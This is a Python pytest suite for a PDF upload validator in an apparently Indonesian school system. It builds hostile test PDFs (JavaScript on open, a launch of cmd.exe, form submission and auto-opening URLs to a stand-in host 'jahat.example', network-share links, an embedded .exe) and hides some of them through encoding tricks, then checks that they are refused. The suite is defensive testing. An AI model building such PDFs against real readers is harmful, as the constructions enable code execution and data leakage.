"""A PDF is whole, opens without a password, and does nothing by itself; what people's programs write is taken."""

import base64
import binascii
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from lms.contract.errors import Invalid
from lms.evidence.file_validation import check_own_file
from lms.testing.hostile import object_streams, pdf, raw_pdf

CODE = "app.alert(1)"
Fill = Callable[[pikepdf.Pdf], None]


def refusal(body: bytes) -> str:
    """The sentence, or "" when it is taken as it is."""
    try:
        kept = check_own_file("surat.pdf", body, kinds=frozenset({"pdf"}), max_bytes=30_000_000)
    except Invalid as invalid:
        return invalid.text.in_("id")
    kept.body.seek(0)
    assert kept.body.read() == body
    return ""


def root(**found: object) -> Fill:
    def fill(document: pikepdf.Pdf) -> None:
        for key, value in found.items():
            document.Root[f"/{key}"] = value

    return fill


def on_page(annotation: Dictionary) -> Fill:
    def fill(document: pikepdf.Pdf) -> None:
        document.pages[0].obj["/Annots"] = Array([document.make_indirect(annotation)])

    return fill


def link(**action: object) -> Fill:
    return on_page(Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action)))


def tree(key: str, *leaves: object) -> Fill:
    return root(Names=Dictionary({f"/{key}": Dictionary(Names=Array(list(leaves)))}))


def script(**more: object) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(CODE), **more)


def _many(fill: Fill) -> Fill:
    """In a dictionary of four thousand other entries."""

    def wide(document: pikepdf.Pdf) -> None:
        fill(document)
        for number in range(4000):
            document.Root.OpenAction[f"/K{number}"] = number

    return wide


def _ascii85(content: bytes) -> bytes:
    return base64.a85encode(content) + b"~>"


ACTIVE: dict[str, Callable[[], bytes]] = {
    "script on opening": lambda: pdf(root(OpenAction=script())),
    "script in a stream": lambda: pdf(
        lambda document: root(
            OpenAction=Dictionary(S=Name.JavaScript, JS=document.make_stream(CODE.encode()))
        )(document)
    ),
    "script in the tree of names": lambda: pdf(tree("JavaScript", String("a"), script())),
    "script behind a jump": lambda: pdf(
        root(OpenAction=Dictionary(S=Name.GoTo, D=String("a"), Next=script()))
    ),
    "script of a page": lambda: pdf(
        lambda document: document.pages[0].obj.__setitem__("/AA", Dictionary(O=script()))
    ),
    "script of a field": lambda: pdf(on_page(Dictionary(Subtype=Name.Link, AA=Dictionary(K=script())))),
    "script of a link": lambda: pdf(link(S=Name.JavaScript, JS=String(CODE))),
    "script of a rendition": lambda: pdf(link(S=Name.Rendition, JS=String(CODE))),
    "script in a long dictionary": lambda: pdf(_many(root(OpenAction=script()))),
    "script in an object stream": lambda: object_streams(b"<</S/JavaScript/JS(x)>>"),
    "script in hexadecimal": lambda: object_streams(
        b"<</S/JavaScript/JS(x)>>",
        press=lambda text: binascii.hexlify(text) + b">",
        filters=b"/ASCIIHexDecode",
    ),
    "script in base 85": lambda: object_streams(
        b"<</S/JavaScript/JS(x)>>",
        press=lambda text: _ascii85(zlib.compress(text)),
        filters=b"[/ASCII85Decode/FlateDecode]",
    ),
    "script under an escaped name": lambda: raw_pdf(b"<</#53/J#61vaScript/J#53(x)>>"),
    "object stream under an escaped name": lambda: object_streams(b"<</S/JavaScript/JS(x)>>").replace(
        b"/ObjStm", b"/Obj#53tm"
    ),
    "script behind an owner's password": lambda: pdf(
        root(OpenAction=script()), encryption=pikepdf.Encryption(owner="x", user="")
    ),
    "program": lambda: pdf(link(S=Name.Launch, F=String("cmd.exe"))),
    "form that sends": lambda: pdf(link(S=Name.SubmitForm, F=String("http://jahat.example"))),
    "form that fetches": lambda: pdf(link(S=Name.ImportData, F=String("a.fdf"))),
    "address that opens by itself": lambda: pdf(
        root(OpenAction=Dictionary(S=Name.URI, URI=String("http://jahat.example")))
    ),
    "address that opens with its page": lambda: pdf(
        lambda document: document.pages[0].obj.__setitem__(
            "/AA", Dictionary(O=Dictionary(S=Name.URI, URI=String("http://jahat.example")))
        )
    ),
    "share on the network": lambda: pdf(link(S=Name.GoToR, F=String("\\\\jahat.example\\a.pdf"))),
    "share behind a file's name": lambda: pdf(
        link(S=Name.GoToE, F=Dictionary(F=String("a.pdf"), UF=String("//jahat.example/a.pdf")))
    ),
    "form of scripts": lambda: pdf(root(AcroForm=Dictionary(XFA=String("<xdp/>")))),
    "Flash": lambda: pdf(on_page(Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary(A=1)))),
    "script of a solid": lambda: pdf(
        on_page(Dictionary({"/Subtype": Name("/3D"), "/OnInstantiate": String(CODE)}))
    ),
}


@pytest.mark.parametrize("what", ACTIVE)
def test_active_content_is_refused_for_that_reason(what: str) -> None:
    assert "isi aktif" in refusal(ACTIVE[what]())


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["rahasia.exe"] = b"MZ"


def test_attached_files_are_refused_for_that_reason() -> None:
    assert "berkas lain" in refusal(pdf(_attached))


TAKEN: dict[str, Callable[[], bytes]] = {
    "plain": pdf,
    "written by hand": raw_pdf,
    "with object streams": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "linearised": lambda: pdf(linearize=True),
    "an owner's password": lambda: pdf(encryption=pikepdf.Encryption(owner="rahasia", user="")),
    "an old owner's password": lambda: pdf(
        encryption=pikepdf.Encryption(owner="rahasia", user="", R=3, aes=False, metadata=False)
    ),
    "a line before it": lambda: b"\n" + pdf(),
    "a byte order mark before it": lambda: b"\xef\xbb\xbf" + raw_pdf(),
    "a header of a mail before it": lambda: b"Content-Type: application/pdf\r\n\r\n" + raw_pdf(),
    "a long tail": lambda: raw_pdf() + b"\n" * 9000,
    "a tail of zeros": lambda: raw_pdf() + bytes(100_000),
    "a tail of stream lines": lambda: raw_pdf() + b"stream\n" * 15_000,
    "an empty tree of scripts": lambda: pdf(tree("JavaScript")),
    "an empty tree of files": lambda: pdf(tree("EmbeddedFiles")),
    "an empty script": lambda: pdf(root(OpenAction=Dictionary(S=Name.JavaScript, JS=String("")))),
    "an empty form": lambda: pdf(root(AcroForm=Dictionary(Fields=Array(), XFA=Array()))),
    "a jump on opening": lambda: pdf(root(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))),
    "a place on opening": lambda: pdf(root(OpenAction=Array([0, Name.Fit]))),
    "a link": lambda: pdf(link(S=Name.URI, URI=String("https://kemdikbud.go.id"))),
    "a link to a file beside it": lambda: pdf(
        link(S=Name.GoToR, F=String("lampiran.pdf"), D=Array([0, Name.Fit]))
    ),
    "a link on a disk": lambda: pdf(link(S=Name.GoToR, F=String("D:/rpp/lampiran.pdf"))),
    "words that look like a script": lambda: pdf(root(Title=String("/JavaScript /JS(app) /Launch"))),
    "numbers and nulls as objects": lambda: raw_pdf(b"42", b"null", b"true", b"(text)", b"[1 2]"),
    "a name that begins alike": lambda: pdf(root(JSON=String("x"), Launcher=1)),
}


@pytest.mark.parametrize("what", TAKEN)
def test_what_does_nothing_is_taken(what: str) -> None:
    assert refusal(TAKEN[what]()) == ""


@pytest.mark.parametrize("revision", [2, 3, 4, 6])
def test_a_password_is_named_as_the_reason(revision: int) -> None:
    body = pdf(
        encryption=pikepdf.Encryption(
            owner="a", user="rahasia", R=revision, aes=revision > 3, metadata=revision > 3
        )
    )  # type: ignore[arg-type]
    assert "kata sandi" in refusal(body)


BROKEN: dict[str, Callable[[], bytes]] = {
    "a shell": lambda: b"%PDF-1.7\n%%EOF\n",
    "a shell with a trailer": lambda: b"%PDF-1.7\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    "no pages": lambda: raw_pdf(root=b"<</Type/Catalog/Pages 9 0 R>>"),
    "only its beginning": lambda: pdf()[:300],
    "no end": lambda: raw_pdf().replace(b"%%EOF", b""),
    "header too far behind": lambda: b"x" * 1100 + raw_pdf(),
    "text": lambda: b"Yth. Bapak/Ibu",
    "pages in a ring": lambda: raw_pdf(root=b"<</Type/Catalog/Pages 4 0 R>>").replace(
        b"endobj\nxref", b"endobj\n4 0 obj<</Kids[4 0 R]/Count 1/Type/Pages>>endobj\nxref"
    ),
    "a script in a depth that is not read": lambda: raw_pdf(
        b"<</S/JavaScript/JS(x)/Deep" + b"[" * 600 + b"]" * 600 + b">>"
    ),
    "an object stream that does not unpack": lambda: object_streams(b"<<>>", press=lambda text: b"xx" + text),
}


@pytest.mark.parametrize("what", BROKEN)
def test_what_is_no_whole_pdf_is_said_to_be_none(what: str) -> None:
    assert "bukan PDF yang utuh" in refusal(BROKEN[what]())
